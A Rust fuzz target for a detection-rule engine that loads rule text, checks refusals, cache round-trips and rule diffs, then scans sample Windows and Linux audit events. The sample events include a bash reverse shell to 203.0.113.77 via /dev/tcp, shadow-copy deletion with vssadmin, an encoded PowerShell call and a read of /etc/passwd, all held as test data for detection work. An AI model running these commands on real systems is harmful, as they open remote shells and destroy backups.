//! Rules from any text: loaded or refused with a reason, compiled for a few kinds, scanned;
//! correlations take what was found.

use std::sync::LazyLock;

use detect::{Engine, Placeholders, RuleSet, difference, load, pack, unpack};
use model::event::{Kind, Place};
use sources::{Builder, Sheet, Value};

use crate::way::{agree, catalogue};

/// A record: its fields in order; a name may repeat.
type Fields = &'static [(&'static str, &'static str)];

/// Starts of processes.
const STARTS: [Fields; 5] = [
    &[("EventID", "1"), ("Image", "C:\\Windows\\System32\\cmd.exe"), ("CommandLine", "cmd.exe /c whoami")],
    &[
        ("Image", "C:\\Windows\\System32\\vssadmin.exe"),
        ("CommandLine", "vssadmin delete shadows -all –quiet"),
    ],
    &[
        ("CommandLine", "powershell -enc aABlAGwAbABvAA=="),
        ("ParentImage", "C:\\a.exe"),
        ("User", "Ä\\größe"),
    ],
    &[("Image", ""), ("CommandLine", "*?\\"), ("Hashes", "MD5=AB"), ("Hashes", "SHA1=CD")],
    &[("DestinationIp", "192.0.2.7"), ("DestinationPort", "443"), ("UtcTime", "2026-03-02 08:00:01.123")],
];

/// Records of two audit events.
const AUDIT: [&[Fields]; 2] = [
    &[
        &[("type", "SYSCALL"), ("syscall", "59"), ("uid", "0"), ("exe", "/usr/bin/bash")],
        &[
            ("type", "EXECVE"),
            ("a0", "bash"),
            ("a1", "-c"),
            ("a2", "bash -i >& /dev/tcp/203.0.113.77/443 0>&1"),
        ],
        &[("type", "PATH"), ("name", "/etc/passwd"), ("nametype", "NORMAL")],
    ],
    &[&[("type", "USER_CMD"), ("msg", "op=PAM:session"), ("key", "(null)")]],
];

/// Runs one text.
pub fn run(bytes: &[u8]) {
    let Ok(text) = str::from_utf8(bytes) else { return };
    let placeholders =
        Placeholders::from([("words".to_owned(), vec!["whoami".to_owned(), "bash".to_owned()])]);
    differ(bytes, &placeholders);
    let loaded = load("rules.yml", text, &placeholders);
    let packed = pack(&loaded).unwrap_or_default();
    let Some(unpacked) = unpack(&packed) else { panic!("what was loaded does not survive the cache") };
    assert_eq!(pack(&unpacked).as_ref(), Some(&packed), "the cache changes what was loaded");
    let set = RuleSet::new(unpacked);
    let lines = text.split('\n').count();
    for refusal in &set.refused {
        assert!(!refusal.reason.to_string().is_empty(), "a refusal without a reason");
        assert!((1..=lines).contains(&refusal.line), "line {} of {lines}", refusal.line);
    }
    if set.is_empty() {
        return;
    }
    static SHEETS: LazyLock<Vec<Sheet>> = LazyLock::new(sheets);
    let engine = Engine::new(set, catalogue());
    let mut correlator = engine.correlator();
    for sheet in &*SHEETS {
        let found = agree(&engine, sheet);
        let Some(correlator) = &mut correlator else { continue };
        let mut verdicts = Vec::new();
        found.signals.iter().for_each(|signal| correlator.push(signal, &mut verdicts));
    }
}

/// A version of the same file with its first half alone: what is added one way is removed the other.
fn differ(bytes: &[u8], placeholders: &Placeholders) {
    let file = |bytes: &[u8]| vec![("rules.yml".to_owned(), bytes.to_vec())];
    let (half, whole) = (file(&bytes[..bytes.len() / 2]), file(bytes));
    let there = difference(&half, &whole, placeholders);
    let back = difference(&whole, &half, placeholders);
    assert_eq!((there.added.len(), there.removed.len()), (back.removed.len(), back.added.len()));
    assert_eq!((there.changed.len(), there.unchanged), (back.changed.len(), back.unchanged));
}

fn sheets() -> Vec<Sheet> {
    let mut builder = Builder::new(catalogue());
    let source = builder.source(&"events".into());
    let place = |ordinal: usize| Place { ordinal: ordinal as u64, ..Place::default() };
    for kind in [
        Kind::new("windows", "Microsoft-Windows-Sysmon/Operational", Some(1)),
        Kind::new("windows", "Security", Some(4688)),
        Kind::new("", "", None),
    ] {
        for (number, fields) in STARTS.iter().enumerate() {
            builder.begin(source, &kind, &place(number + 1));
            fields.iter().for_each(|(name, value)| builder.field(name, Value::text(value)));
        }
    }
    for (number, records) in AUDIT.iter().enumerate() {
        builder.begin_grouped(source, &Kind::new("linux", "auditd", None), &place(number + 1));
        for fields in *records {
            builder.next_record();
            fields.iter().for_each(|(name, value)| builder.field(name, Value::text(value)));
        }
    }
    match builder.finish() {
        Ok(sheets) => sheets,
        Err(error) => panic!("the columns are not well formed: {error}"),
    }
}
